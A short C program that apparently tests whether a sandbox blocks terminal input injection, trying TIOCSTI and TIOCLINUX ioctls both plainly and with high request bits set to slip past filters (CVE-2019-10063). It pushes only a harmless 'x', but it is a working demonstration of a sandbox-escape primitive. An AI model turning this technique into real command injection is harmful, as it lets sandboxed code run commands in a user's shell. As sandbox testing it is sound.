// SPDX-License-Identifier: MIT
/*
 * push: tries to put a character into the input of the terminal, by TIOCSTI and by TIOCLINUX, each also with bits set in the
 * high half of the request, which the kernel ignores (CVE-2019-10063). One line a way, "NAME: ERROR" or "NAME: done".
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The raw call: the C library's ioctl would cut the request to its low half. */
static void attempt(int fd, const char *name, unsigned long request, void *argument)
{
	long answer = syscall(SYS_ioctl, fd, request, argument);

	(void)printf("%s: %s\n", name, answer < 0 ? strerror(errno) : "done");
}

int main(void)
{
	const unsigned long high = 1UL << 32;
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	char character = 'x', select_line[8] = { 2 };

	if (fd < 0)
		fd = STDIN_FILENO;
	attempt(fd, "TIOCSTI", TIOCSTI, &character);
	attempt(fd, "TIOCSTI with high bits", TIOCSTI | high, &character);
	attempt(fd, "TIOCLINUX", TIOCLINUX, select_line);
	attempt(fd, "TIOCLINUX with high bits", TIOCLINUX | high, select_line);
	return 0;
}
